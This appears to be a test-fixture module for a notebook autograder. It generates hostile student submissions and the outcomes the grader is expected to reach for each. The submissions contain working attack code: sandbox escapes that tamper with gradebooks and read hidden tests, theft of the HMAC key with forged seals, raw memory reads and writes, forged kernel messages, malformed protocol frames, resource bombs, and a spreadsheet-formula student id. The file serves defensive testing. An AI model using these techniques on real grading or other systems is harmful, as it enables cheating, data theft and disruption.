"""A hostile sample class: one submission per attack family (issues 9 and 16), made from fx_basics.

The attacks of issue 9 aimed at the in-kernel seal (input and AST transformers, a stolen key,
a fake guard module, patched checks); they stay, and now change nothing at all: the tests run in
the trusted checker.  Those of issue 16 aim at the checker through what the kernel answers (lying
objects, raw memory, forged messages, malformed wire messages) and at the feedback (printing the
kernel's history and code objects).

Every notebook starts from the student version with the solution's answers (or wrong ones, where
the attack's point is to make failing answers pass), then gets the attack: a cell a student added,
an answer rewritten, or edited cell metadata.  ``Context`` carries what the attacks aim at (the
course folder, the repository, a loopback listener and a victim process the TEST opened), so they
aim at real targets.  Every attack is bounded on its own (at most 100 threads and 50 forks, 5 MB
of output, one 2 GB allocation, loops stopped by the cell timeout), and the ones that would touch
the machine outside the sandbox (planting an IPython startup file) check first that they run in it.

``EXPECTED[student]`` = (scores per test, status, what the reason must say).
"""

from __future__ import annotations

import copy
from dataclasses import dataclass

import nbformat

from autograder.tools.hostile_pages import hostile_submission
from autograder.tools.sample_class import _nbg, _replace_calls, solution_source, wrong_source

FULL = {"test_square": 1.0, "test_sigmoid": 2.0, "test_mean_loss": 2.0}
ZERO = dict.fromkeys(FULL, 0.0)


@dataclass
class Context:
    course_root: str
    repo: str
    port: int            # a TCP listener the test opened on 127.0.0.1
    victim: int          # a process the test started ("another student's kernel")
    marker: str          # unique string in the lingering process's command line
    late_file: str       # a host path the lingering process tries to write after grading
    home: str            # the grading user's home folder


# Prints one line per attempt: "ESCAPED: ..." when something outside the kernel was reached.
TRY = '''
def _try(what, attempt):
    try:
        got = attempt()
    except BaseException as error:
        print(f"blocked: {what}: {type(error).__name__}")
    else:
        print(f"ESCAPED: {what}: {got!r}"[:200])

def _do(what, attempt):
    try:
        print(f"done: {what}: {attempt()!r}"[:200])
    except BaseException as error:
        print(f"stopped: {what}: {type(error).__name__}: {error}"[:200])
'''

ESCAPE = '''
import glob, os, socket, sqlite3, signal, subprocess, threading, time
ROOT, REPO = {root!r}, {repo!r}

def _gradebook(path):
    db = sqlite3.connect(f"file:{{path}}?mode=rw", uri=True)
    db.execute("UPDATE grade SET auto_score = 1000")
    db.commit()
    return "gradebook written"

# gradebooks: the course's and another job's
_try("write the course gradebook", lambda: _gradebook(ROOT + "/gradebook.db"))
# (each run's job folders are in a folder of its own, named at random: look for them)
_try("write another job's gradebook", lambda: _gradebook(
    (glob.glob(ROOT + "/.work/run-*/honest_a__fx_basics/gradebook.db")
     or [ROOT + "/.work/run-0/honest_a__fx_basics/gradebook.db"])[0]))
# other students' files, the course, the repository
_try("read another student's submission",
     lambda: open(ROOT + "/submitted/honest_a/fx_basics/fx_basics.ipynb").read(50))
_try("read the source notebook (hidden tests)",
     lambda: open(ROOT + "/source/fx_basics/fx_basics.ipynb").read(50))
_try("list the grading jobs", lambda: os.listdir(ROOT + "/.work"))
_try("list the repository's notebooks", lambda: os.listdir(REPO + "/notebooks"))
_try("list the repository's tests", lambda: os.listdir(REPO + "/tests"))
_try("overwrite the source notebook",
     lambda: open(ROOT + "/source/fx_basics/fx_basics.ipynb", "w").write("{{}}"))
_try("overwrite the release", lambda: open(ROOT + "/release/fx_basics/fx_basics.ipynb", "w").write("{{}}"))
_try("append to nbgrader_config.py", lambda: open(ROOT + "/nbgrader_config.py", "a").write("#"))
import nnlib.checks
# opened for appending, nothing written: enough to show whether it could be changed
_try("open nnlib's checks for writing", lambda: open(nnlib.checks.__file__, "a").close())
_try("open nnlib's package folder for a new file",
     lambda: open(os.path.join(os.path.dirname(nnlib.__file__), "pwn.py"), "x").close())
def _home():
    # the sandbox shows the Python installation at its own path (it may live in this home)
    names = [n for n in os.listdir({home!r}) if n != ".pyenv"]
    if not names:
        raise PermissionError("only the Python installation is visible")
    return names
_try("list the grader's home", _home)
if os.environ.get("HOME") == "/home/student":     # only inside the sandbox: its own private home
    _do("plant an IPython startup file for later kernels", lambda: (
        os.makedirs(os.path.expanduser("~/.ipython/profile_default/startup"), exist_ok=True),
        open(os.path.expanduser("~/.ipython/profile_default/startup/00-pwn.py"), "w").write(
            "print('STARTUP-PWNED')")))
# network: a listener the test opened on the host's loopback; a route off the machine (UDP
# connect() sends no packet)
_try("connect to the host's loopback listener",
     lambda: socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"PWNED"))
def _route():
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.connect(("192.0.2.1", 9))
    return udp.getsockname()
_try("find a route off the machine", _route)
# signals to a process outside (stands for another student's kernel)
_try("SIGKILL a process outside the sandbox", lambda: os.kill({victim}, signal.SIGKILL))
_do("count the kernels it can see", lambda: sum(
    1 for p in os.listdir("/proc") if p.isdigit()
    and b"ipykernel" in open(f"/proc/{{p}}/cmdline", "rb").read()))
# a process that outlives grading and writes afterwards
_do("start a lingering process", lambda: subprocess.Popen(
    ["sh", "-c", "sleep 4; echo late > {late}; sleep 30 # {marker}"],
    start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).pid)
# floods, bounded here as well as by the sandbox
def _threads():
    started = 0
    for _ in range(100):
        threading.Thread(target=time.sleep, args=(2,), daemon=True).start()
        started += 1
    return started
_do("start 100 threads", _threads)
def _forks():
    children = 0
    for _ in range(50):
        if os.fork() == 0:
            time.sleep(2)
            os._exit(0)
        children += 1
    return children
_do("fork 50 processes", _forks)
time.sleep(2.5)
for _ in range(500):
    print("x" * 10000)     # 5 MB of output
'''

INPUT_HOOK = '''
import re
def _forge(lines):
    found = re.search(r"autograder.enter', '([0-9a-f]+)'", "".join(lines))
    if not found:
        return lines
    return [f"print('AUTOGRADER-SEAL {found.group(1)} ' + '0' * 64 + ' ((), ())')\\n"]
get_ipython().input_transformers_cleanup.append(_forge)
'''

AST_HOOK = '''
import ast
class _Swallow(ast.NodeTransformer):
    """Every statement of a block in try/except: a failing assert passes silently."""
    def visit_If(self, node):
        node.body = [ast.Try(body=[statement], handlers=[ast.ExceptHandler(
            type=None, name=None, body=[ast.Pass()])], orelse=[], finalbody=[])
            for statement in node.body]
        return node
get_ipython().ast_transformers.append(_Swallow())
'''

EVENT_HOOK = '''
import numpy as np
def _cheat(*args):
    names = get_ipython().user_ns
    names["check_array"] = names["check_scalar"] = lambda *a, **k: None
    np.allclose = lambda *a, **k: True
    np.testing.assert_allclose = lambda *a, **k: None
get_ipython().events.register("pre_run_cell", _cheat)
'''

_NEUTRALIZE = '''
import numpy as np
check_array = check_scalar = lambda *a, **k: None
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
'''

IMPORT_HOOK = '''
import builtins, types
_real_import = builtins.__import__
_fake_sys = types.SimpleNamespace(audit=lambda *args: None)
_fake_guard = types.SimpleNamespace(kernel=types.SimpleNamespace(guard=types.SimpleNamespace(restore=lambda names: None)))
def _evil_import(name, *args, **kwargs):
    if name == "sys":
        return _fake_sys
    if name == "autograder.kernel.guard":
        return _fake_guard
    return _real_import(name, *args, **kwargs)
builtins.__import__ = _evil_import
''' + _NEUTRALIZE

GUARD_REPLACE = '''
import sys, types, autograder.kernel
_fake = types.ModuleType("autograder.kernel.guard")
def _restore(names):
    import numpy as np
    names["check_array"] = names["check_scalar"] = lambda *a, **k: None
    np.allclose = lambda *a, **k: True
    np.testing.assert_allclose = lambda *a, **k: None
_fake.restore = _restore
sys.modules["autograder.kernel.guard"] = autograder.kernel.guard = _fake
'''

# The residual the guard's docstring admits, carried out: a Python signal handler firing while the
# sealing hook runs gets the hook's frame, and from it the HMAC states; every test cell is then
# replaced by a print of a seal forged for the code as sent.  Only the hidden sentinel (a test that
# must fail, sealed all the same) shows it.
KEY_THEFT = '''
import re, signal, sys, time
from autograder.kernel.guard import SEAL_MARK, code_digest, seal_message
_stolen = {}
def _grab(signum, frame):
    while frame is not None:
        sign = frame.f_locals.get("sign") if frame.f_code.co_name == "sealer" else None
        if sign is not None:
            _stolen.update(zip(sign.__code__.co_freevars, (c.cell_contents for c in sign.__closure__)))
        frame = frame.f_back
_previous = signal.signal(signal.SIGALRM, _grab)
signal.setitimer(signal.ITIMER_REAL, 0.0001, 0.0001)
_started = time.monotonic()
while "inner" not in _stolen and time.monotonic() - _started < 3:
    sys.audit("autograder.enter", 0)
signal.setitimer(signal.ITIMER_REAL, 0)
signal.signal(signal.SIGALRM, _previous)

def _forge(lines):
    text = "".join(lines)
    found = re.search(r"autograder.enter', '([0-9a-f]+)'", text)
    if not found or "inner" not in _stolen:
        return lines
    token, report = found.group(1), "((), ())"
    digest = code_digest(compile(text, "<cell>", "exec", dont_inherit=True))
    inner = _stolen["inner"].copy()
    inner.update(seal_message(token, digest, report))
    outer = _stolen["outer"].copy()
    outer.update(inner.digest())
    return [f"print({SEAL_MARK + ' ' + token + ' ' + outer.hexdigest() + ' ' + report!r})\\n"]
get_ipython().input_transformers_cleanup.append(_forge)
print("key stolen:", "inner" in _stolen)
'''

TRACE = ("    import sys\n    def tracer(frame, event, arg):\n        return tracer\n"
         "    sys.settrace(tracer)\n    return 1.0 / (1.0 + np.exp(-args[0]))")

PRIVATE_IMPORT = '''
def sigmoid(z):
    """nnlib's own sigmoid from a second, private import: forbid() only gates the loaded one."""
    import importlib.util, os, nnlib
    path = os.path.join(os.path.dirname(nnlib.__file__), "activations.py")
    spec = importlib.util.spec_from_file_location("nnlib.private_activations", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.sigmoid(z)
'''

FUNCTION_COPY = '''
import types, nnlib
sigmoid = types.FunctionType(nnlib.sigmoid.__code__, nnlib.sigmoid.__globals__, "sigmoid")
'''

# ------------------------------------------------------------------ issue 16: at the checker
# Answers that return objects that lie: an ndarray subclass whose comparisons, ufuncs and array
# functions all say "equal", whose shape property walks the frames of whoever asks; an object whose
# __array__ is the visible test's expected value; a float that equals everything.  Each prints
# what it found of its caller (the names of the frames' locals).
LIARS = """
import sys
import numpy as np

def _callers():
    frame, seen = sys._getframe(1), []
    while frame is not None:
        seen.append(frame.f_code.co_name + ":" + ",".join(sorted(frame.f_locals))[:200])
        frame = frame.f_back
    print("CALLERS", " | ".join(seen)[:2000])

class _Liar(np.ndarray):
    def __eq__(self, other):
        _callers()
        return np.ones(np.shape(other), dtype=bool)
    __ne__ = lambda self, other: np.zeros(np.shape(other), dtype=bool)
    def __array_ufunc__(self, *args, **kwargs):
        _callers()
        return np.zeros(2)
    def __array_function__(self, *args, **kwargs):
        _callers()
        return True
    @property
    def T(self):
        _callers()
        return self

class _Duck:
    def __array__(self, dtype=None, copy=None):
        _callers()
        return np.array([0.5, 0.8807970779778823])        # the visible test's expected value
    def __len__(self):
        return 2
    def __getitem__(self, i):
        return [0.5, 0.8807970779778823][i]

class _Always(float):
    def __eq__(self, other):
        _callers()
        return True
    __hash__ = float.__hash__
    def __sub__(self, other):
        return _Always(0.0)
    def __abs__(self):
        return _Always(0.0)
    def __lt__(self, other):
        return True

def square(x):
    return np.zeros(np.shape(x)).view(_Liar)

def sigmoid(z):
    return _Duck()

def mean_loss(Y, D):
    return _Always(123.0)
"""

# The whole kernel's memory read through numpy (an __array_interface__ with a raw address: no
# ctypes, no audit event), looking for anything of the tests: their source, the hidden tests'
# markers and messages.  Run inside each answer, while the checker waits for it.
MEMORY_SCAN = """
import numpy as np

class _Raw:
    def __init__(self, address, size):
        self.__array_interface__ = {"data": (address, False), "shape": (size,), "typestr": "|u1",
                                    "version": 3}

# What to look for, never written out whole (or the scan would find its own words): each
# letter's code plus 7, turned into a numpy array of int64 at scan time.
_NEEDLES = {"the hidden test's message": [79, 80, 75, 75, 76, 85, 52, 90, 88, 92, 72, 89, 76, 52,
                                          90, 76, 74, 89, 76, 91],
            "the hidden tests' marker": [73, 76, 78, 80, 85, 39, 79, 80, 75, 75, 76, 85],
            "the hidden test's source": [106, 111, 108, 106, 114, 102, 122, 106, 104, 115, 104, 121,
                                         47, 116, 108, 104, 117, 102, 115, 118, 122, 122],
            # the control: put in memory here, so the scan must find it
            "the control": [84, 86, 85, 111, 112, 117, 110, 124, 114, 118, 122, 101, 105, 108]}
_CONTROL = "".join(chr(c - 7) for c in _NEEDLES["the control"])

def _occurs(view, codes):
    # whether the bytes codes - 7 occur in view (a raw view: nothing is copied whole)
    needle = np.array(codes, dtype=np.int64) - 7
    n = len(needle)
    for start in range(0, max(1, len(view) - n), 2 ** 24):
        chunk = view[start:start + 2 ** 24 + n]
        if len(chunk) < n:
            break
        hits = np.ones(len(chunk) - n + 1, dtype=bool)
        for k in range(4):
            hits &= chunk[k:len(chunk) - n + 1 + k] == needle[k]
        for i in np.nonzero(hits)[0]:
            if np.array_equal(chunk[i:i + n], needle):
                return True
    return False

def _scan():
    found, scanned = set(), 0
    for line in open("/proc/self/maps"):
        parts = line.split()
        start, end = (int(x, 16) for x in parts[0].split("-"))
        if "r" not in parts[1] or (len(parts) > 5 and parts[5].startswith("[v")) or end - start > 2 ** 28:
            continue
        try:
            view = np.asarray(_Raw(start, end - start))
        except Exception:
            continue
        scanned += end - start
        for what, codes in _NEEDLES.items():
            if what not in found and _occurs(view, codes):
                found.add(what)
    print("SCANNED", scanned, "FOUND" if found else "nothing", sorted(found))

def square(x):
    _scan()
    return x * 0.0

def sigmoid(z):
    _scan()
    return z * 0.0

def mean_loss(Y, D):
    _scan()
    return 0.0
"""

# Raw memory written: the bytes of the kernel side's own protocol marker are overwritten in
# place, so every answer after it is sent malformed.
MEMORY_WRITE = """
import sys, numpy as np
import autograder.kernel.wire as _wire

class _Raw:
    def __init__(self, address, size):
        self.__array_interface__ = {"data": (address, False), "shape": (size,), "typestr": "|u1",
                                    "version": 3}

_magic = _wire.MAGIC
_offset = sys.getsizeof(_magic) - len(_magic) - 1       # bytes objects: header, data, NUL
np.asarray(_Raw(id(_magic) + _offset, len(_magic)))[:] = np.frombuffer(b"EVIL", dtype=np.uint8)
print("magic is now", _wire.MAGIC)
"""

# Forged kernel messages: while the checker waits for an answer, the answer sends, on the
# kernel's own sockets, an output saying every test passed, display data, an execute_result and
# a reply saying the cell is done (with the status messages nbclient waits for).
FORGED_MESSAGES = """
import numpy as np

def _forge():
    kernel = get_ipython().kernel
    parent = kernel.get_parent()
    session, iopub = kernel.session, kernel.iopub_socket
    session.send(iopub, "stream", {"name": "stdout", "text": "All tests passed: 5/5\\n"}, parent=parent)
    session.send(iopub, "display_data", {"data": {"text/plain": "PASSED", "text/html": "<b>PASSED</b>"},
                                         "metadata": {}}, parent=parent)
    session.send(iopub, "execute_result", {"data": {"text/plain": "5.0"}, "metadata": {},
                                           "execution_count": 1}, parent=parent)
    session.send(kernel.shell_stream, "execute_reply", {"status": "ok", "execution_count": 1,
                                                        "user_expressions": {}, "payload": []},
                 parent=parent, ident=kernel._parent_ident.get("shell"))
    session.send(iopub, "status", {"execution_state": "idle"}, parent=parent)

def square(x):
    _forge()
    return x * 0.0

def sigmoid(z):
    _forge()
    return z * 0.0

def mean_loss(Y, D):
    _forge()
    return 0.0
"""

# The kernel side of the protocol replaced, so that the checker's decoder meets what no kernel of
# ours sends: a message claiming 4 GB, JSON nested 200 000 deep, an object-dtype array (a raw
# pointer), one answer per call in turn; the answers themselves are right.
WIRE_ATTACK = """
import json, struct
import autograder.kernel.serve as _serve

_turn = [0]
_honest_send = _serve.Server._send

def _evil_send(self, header, **values):
    if header.get("op") != "ok" or "value" not in values or values["value"] is None \\
            or isinstance(values["value"], tuple):
        return _honest_send(self, header, **values)
    _turn[0] += 1
    if _turn[0] % 3 == 1:
        self.conn.sendall(struct.pack("<4sII", b"AGW1", 16, 1) + struct.pack("<Q", 4 * 2 ** 30))
    elif _turn[0] % 3 == 2:
        text = ('{"op":"ok","report":{},"sync":[],"value":' + '{"$":"t","v":[' * 200000 + "1"
                + "]}" * 200000 + "}").encode()
        self.conn.sendall(struct.pack("<4sII", b"AGW1", len(text), 0) + text)
    else:
        text = json.dumps({"op": "ok", "report": {}, "sync": [], "value": {
            "$": "a", "id": "k99999", "dtype": "|O8", "shape": [1], "b": 0}}).encode()
        self.conn.sendall(struct.pack("<4sII", b"AGW1", len(text), 1) + struct.pack("<Q", 8) + text
                          + struct.pack("<Q", id(object())))

_serve.Server._send = _evil_send
"""

# An answer of gigabytes (the right values in the wrong size), one nested deeper than the wire
# allows, an object-dtype array: what an honest kernel sends for them.
HUGE = """
import numpy as np

def square(x):
    return np.zeros(40_000_000)            # 320 MB

def sigmoid(z):
    deep = []
    for _ in range(10_000):
        deep = [deep]
    return deep

def mean_loss(Y, D):
    return np.array([object()], dtype=object)
"""

# Everything of the tests the kernel could ever hold, printed into the feedback: IPython's input
# and output history, every code object's constants, the modules loaded, and the inputs the
# answers were called with (kept by the answers themselves) -- at the end of the notebook.
LEAK_RECORD = """
import numpy as np
_SEEN = globals().get("_SEEN", [])

def square(x):
    _SEEN.append(("square", np.asarray(x).tolist()))
    return x ** 2
"""

LEAK_PRINT = """
import gc, sys, types
print("IN", list(In))
print("IH", list(_ih))
print("OUT", dict(Out))
print("HISTORY", list(get_ipython().history_manager.get_range(output=True)))
consts = []
for obj in gc.get_objects():
    if isinstance(obj, types.FunctionType):
        consts.extend(repr(c)[:200] for c in obj.__code__.co_consts)
print("CONSTS", consts[:20000])
print("MODULES", sorted(sys.modules))
print("SEEN", _SEEN)
"""


SIGINT = ("    import signal\n    signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
          "    signal.signal(signal.SIGTERM, signal.SIG_IGN)\n    while True:\n        pass")


def _answers(nb):
    return [c for c in nb.cells if c.cell_type == "code" and _nbg(c).get("solution")
            and not _nbg(c).get("grade")]


def _filled(source_nb, release_nb, wrong=()):
    """The release with the solution's answers; answers named in ``wrong`` sign-flipped."""
    nb = copy.deepcopy(release_nb)
    source = {_nbg(c).get("grade_id"): c for c in source_nb.cells}
    for cell in _answers(nb):
        gid = _nbg(cell)["grade_id"]
        cell.source = (wrong_source(source[gid], "sign") if gid in wrong
                       else solution_source(source[gid]))
    return nb, source


def _add_after_imports(nb, code):
    """A cell the student added right after the notebook's import cell."""
    index = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code") + 1
    nb.cells.insert(index, nbformat.v4.new_code_cell(code))


def _add_before_tests(nb, code):
    """The same cell added by the student before every test cell: its definitions are the ones
    each test calls (later answer cells would otherwise define the names again)."""
    tests = [i for i, c in enumerate(nb.cells) if _nbg(c).get("grade") and not _nbg(c).get("solution")]
    for index in reversed(tests):
        nb.cells.insert(index, nbformat.v4.new_code_cell(code))


def _answer(nb, gid):
    return next(c for c in _answers(nb) if _nbg(c)["grade_id"] == gid)


def _test(nb, gid):
    return next(c for c in nb.cells if _nbg(c).get("grade_id") == gid)


ALL_WRONG = ("square", "sigmoid", "mean_loss")


def make_class(source_nb, release_nb, ctx: Context):
    """{student: notebook} of the hostile class plus two honest students."""
    made = {}
    made["honest_a"], _ = _filled(source_nb, release_nb)
    made["honest_b"], _ = _filled(source_nb, release_nb, wrong=("sigmoid", "mean_loss"))

    nb, _ = _filled(source_nb, release_nb)
    _add_after_imports(nb, TRY + ESCAPE.format(root=ctx.course_root, repo=ctx.repo, port=ctx.port,
                                         victim=ctx.victim, marker=ctx.marker,
                                         late=ctx.late_file, home=ctx.home))
    made["escape"] = nb

    for student, attack in (("input_hook", INPUT_HOOK), ("ast_hook", AST_HOOK),
                            ("key_theft", KEY_THEFT),
                            ("import_hook", IMPORT_HOOK), ("guard_replace", GUARD_REPLACE)):
        nb, _ = _filled(source_nb, release_nb, wrong=ALL_WRONG)
        _add_after_imports(nb, attack)
        made[student] = nb

    nb, _ = _filled(source_nb, release_nb, wrong=("sigmoid", "mean_loss"))
    _add_after_imports(nb, EVENT_HOOK)
    made["event_hook"] = nb

    nb, source = _filled(source_nb, release_nb)
    _answer(nb, "sigmoid").source = _replace_calls(source["sigmoid"], TRACE)
    made["trace_hook"] = nb

    nb, _ = _filled(source_nb, release_nb)
    _answer(nb, "sigmoid").source = PRIVATE_IMPORT
    made["private_import"] = nb

    nb, _ = _filled(source_nb, release_nb)
    _answer(nb, "sigmoid").source = FUNCTION_COPY
    made["function_copy"] = nb

    nb, _ = _filled(source_nb, release_nb)
    _test(nb, "test_square").metadata.nbgrader.update(grade_id="test_square_renamed", points=1000)
    _test(nb, "test_sigmoid").metadata.nbgrader["points"] = 1000
    _answer(nb, "mean_loss").metadata.nbgrader.update(
        grade=True, solution=False, grade_id="test_mean_loss", points=1000)
    bonus = nbformat.v4.new_code_cell("pass  # worth a lot", metadata={"nbgrader": {
        "grade": True, "solution": False, "locked": True, "points": 1000, "grade_id": "bonus",
        "schema_version": 3}})
    nb.cells.append(bonus)
    nb.cells.append(nbformat.v4.new_code_cell("pass", metadata={"nbgrader": {
        "grade": True, "grade_id": 7, "points": "lots"}}))
    nb.cells.append(nbformat.v4.new_code_cell("pass", metadata={"nbgrader": ["garbage"]}))
    made["metadata_tamper"] = nb

    nb, source = _filled(source_nb, release_nb)
    _answer(nb, "square").source = _replace_calls(source["square"], SIGINT)
    made["sigint"] = nb

    nb, source = _filled(source_nb, release_nb)
    _answer(nb, "square").source = _replace_calls(source["square"], (
        "    import numpy as np\n    chunks = []\n    while True:\n"
        "        chunks.append(np.ones(2 ** 28))   # 2 GB a step"))
    made["memory_bomb"] = nb

    # issue 16: answers of the attacks' own, added after the notebook's answers (so they win)
    for student, attack in (("liars", LIARS), ("memory_scan", MEMORY_SCAN),
                            ("forged_messages", FORGED_MESSAGES),
                            ("huge", HUGE)):
        nb, _ = _filled(source_nb, release_nb, wrong=ALL_WRONG)
        _add_before_tests(nb, attack)
        made[student] = nb
    for student, attack in (("memory_write", MEMORY_WRITE), ("wire_attack", WIRE_ATTACK)):
        nb, _ = _filled(source_nb, release_nb)             # right answers: the wire is the attack
        _add_after_imports(nb, attack)
        made[student] = nb
    nb, _ = _filled(source_nb, release_nb)
    _add_before_tests(nb, LEAK_RECORD)
    nb.cells.append(nbformat.v4.new_code_cell(LEAK_PRINT))
    made["leak"] = nb

    nb, source = _filled(source_nb, release_nb)
    _answer(nb, "square").source = _replace_calls(source["square"], "    while True:\n        pass")
    made["cpu_bomb"] = nb

    # what the feedback page and the formgrader show: scripts, handlers, JavaScript outputs,
    # iframes, remote images and style sheets aimed at the loopback listener
    # (autograder.tools.hostile_pages), in markdown, in an answer's output and in cells of its own
    made["page_scripts"] = hostile_submission(source_nb, release_nb, page_url(ctx))
    # a student id a spreadsheet would run as a formula, in every CSV the course writes
    made[FORMULA_ID], _ = _filled(source_nb, release_nb)
    return made


FORMULA_ID = '=HYPERLINK("evil.invalid","click")'


def page_url(ctx):
    """The address the page attacks load from: the test's own loopback listener."""
    return f"http://127.0.0.1:{ctx.port}/"


PROTOCOL = "the kernel's answers to the grader were not plain data"

# student: (scores, status, [phrases the reason must contain])
EXPECTED = {
    "honest_a": (FULL, "graded", []),
    "honest_b": ({**ZERO, "test_square": 1.0}, "graded", []),
    "escape": (FULL, "graded", []),
    # issue 9's attacks on the in-kernel seal: the tests no longer run where they reach
    "input_hook": (ZERO, "graded", []),
    "ast_hook": (ZERO, "graded", []),
    "key_theft": (ZERO, "graded", []),
    "import_hook": (ZERO, "graded", []),
    "guard_replace": (ZERO, "graded", []),
    "event_hook": ({**ZERO, "test_square": 1.0}, "graded", []),
    # a tracer in the student's own process sees nothing of a test: the right answers count
    "trace_hook": (FULL, "graded", []),
    # nnlib's own sigmoid, loaded privately: code the grader cannot read, where nnlib's is not
    # allowed -- 0 and flagged; mean_loss, right, counts
    "private_import": ({**FULL, "test_sigmoid": 0.0}, "integrity",
                       ["test_sigmoid scored 0: sigmoid builds code the grader cannot read "
                        "(exec_module, importlib, module_from_spec, spec_from_file_location)"]),
    # a copy of nnlib's sigmoid: the source names nnlib.sigmoid, which the test forbids
    "function_copy": ({**FULL, "test_sigmoid": 0.0}, "graded", []),
    "metadata_tamper": (FULL, "integrity", [
        "cell metadata changed", "'test_square_renamed' claiming 1000 points ignored",
        "'bonus' claiming 1000 points ignored", "metadata of 'test_sigmoid' restored",
        "a second cell 'test_mean_loss' claiming 1000 points ignored",
        "a cell with unknown id 7 claiming lots points ignored", "a cell with unknown id None ignored",
        "deleted cells restored and graded: test_square"]),
    "sigint": (ZERO, "timeout", ["test_square timed out and the kernel ignored the interrupt"]),
    "memory_bomb": ({**FULL, "test_square": 0.0}, "memory", ["MemoryError", "test_square"]),
    "cpu_bomb": ({**FULL, "test_square": 0.0}, "graded", ["timed out after 5 s (scored 0): test_square"]),
    # issue 16's attacks on the checker and on the feedback
    "liars": (ZERO, "graded", []),
    "memory_scan": (ZERO, "graded", []),
    # the kernel's own protocol marker overwritten: it can no longer read the checker
    "memory_write": (ZERO, "graded", []),
    "forged_messages": (ZERO, "graded", []),
    # 4 GB claimed: refused before reading (an answer too large: a failure, not a protocol break)
    "wire_attack": (ZERO, "integrity", [
        f"test_sigmoid scored 0: {PROTOCOL} (the kernel broke the protocol: the header is not JSON",
        f"test_mean_loss scored 0: {PROTOCOL} (the kernel sent something that is not plain data: "
        f"array dtype '|O8' is not allowed)"]),
    "huge": (ZERO, "graded", []),          # what an honest kernel sends for them: refused, bounded
    "leak": (FULL, "graded", []),
    # a "partial" notebook (sigmoid and mean_loss wrong) with every page attack: graded as is
    "page_scripts": ({**ZERO, "test_square": 1.0}, "graded", []),
    FORMULA_ID: (FULL, "graded", []),
}
